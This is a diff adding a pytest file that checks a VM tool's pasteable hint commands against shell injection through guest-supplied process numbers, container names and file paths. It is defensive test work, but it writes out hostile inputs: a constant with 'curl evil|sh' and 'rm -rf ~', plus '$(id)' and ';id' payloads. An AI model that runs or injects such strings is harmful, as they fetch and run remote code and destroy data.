@@ -1,0 +1,79 @@
+"""What a guest, a foreign file or a path is called never becomes a part of a command that a person pastes."""
+
+import shlex
+from pathlib import Path
+
+import pytest
+
+from b2d import places, unpacking
+from b2d.drivers import qemu_folders
+from b2d.errors import B2dError, WrongState
+from b2d.layout import MachinePaths
+from b2d.model import MachineState
+from b2d.originals import Original, refuse_unless_off
+from tests.line_guest import guest
+
+EVIL = "1;curl evil|sh;x $(id) `id`\nrm -rf ~"
+
+
+def told(folder: Path, *lines: str) -> WrongState:
+    paths = MachinePaths(folder)
+    answer = [f"{one}\n".encode() for one in (*lines, "folders let-go")]
+    with guest(paths.line_socket, answer), pytest.raises(WrongState) as caught:
+        qemu_folders.take(paths, "box")
+    return caught.value
+
+
+@pytest.mark.parametrize(
+    ("line", "hint"),
+    [
+        ("held program 1;curl${IFS}evil|sh; x", "b2d stop"),
+        ("held program $(id) x", "b2d stop"),
+        ("held program -1 x", "b2d stop"),
+        ("held program \u0661\u0662 x", "b2d stop"),
+        ("held program 12345678901 x", "b2d stop"),
+        ("held program 12 x;id", "b2d ssh sudo kill 12 && b2d save, or b2d stop"),
+        ("held container --help", "b2d stop"),
+        ("held container a;id", "b2d stop"),
+        ("held container $(id)", "b2d stop"),
+        ("held container " + "a" * 300, "b2d stop"),
+        ("held container web.1_a-b", "docker stop web.1_a-b && b2d save, or b2d stop"),
+    ],
+)
+def test_in_a_command_stand_only_numbers_of_processes_and_names_of_containers(
+    tmp_path: Path, line: str, hint: str
+) -> None:
+    assert told(tmp_path, line).hint == hint
+
+
+def test_those_that_are_sound_are_named_and_the_others_left_out(tmp_path: Path) -> None:
+    said = told(tmp_path, "held container web", "held container x;id", "held program 7 a", "held program 8;id b")
+    assert said.hint == "docker stop web && b2d ssh sudo kill 7 && b2d save, or b2d stop"
+
+
+def test_a_crowd_in_the_way_is_not_listed_without_an_end(tmp_path: Path) -> None:
+    said = told(tmp_path, *(f"held program {one} x" for one in range(1, 1000)))
+    assert said.message.endswith("979 more") and len(said.message) < 1000 and len(said.hint) < 1000
+
+
+def test_a_line_that_is_none_is_no_bug(tmp_path: Path) -> None:
+    assert told(tmp_path, "held ", "held program", "held container web").hint.startswith("docker stop web &&")
+
+
+@pytest.mark.parametrize("state", [MachineState.SAVED, MachineState.RUNNING])
+def test_a_name_out_of_a_settings_file_is_one_word_of_a_command(state: MachineState) -> None:
+    with pytest.raises(WrongState) as caught:
+        refuse_unless_off(Original(EVIL, Path("x.vmdk"), state=state))
+    assert EVIL in shlex.split(caught.value.hint.partition(", then")[0])
+
+
+def test_a_folder_that_is_not_there_is_one_word_of_a_command(tmp_path: Path) -> None:
+    with pytest.raises(B2dError) as caught:
+        unpacking.landing(f"{tmp_path}/a b;id/x", "x", many=False)
+    assert shlex.split(caught.value.hint) == ["mkdir", "-p", f"{tmp_path}/a b;id"]
+
+
+def test_a_path_that_is_no_machine_s_is_one_word() -> None:
+    with pytest.raises(B2dError) as caught:
+        places.parse("a b;id:x")
+    assert shlex.split(caught.value.hint.partition(", if")[0]) == ["./a b;id:x"]
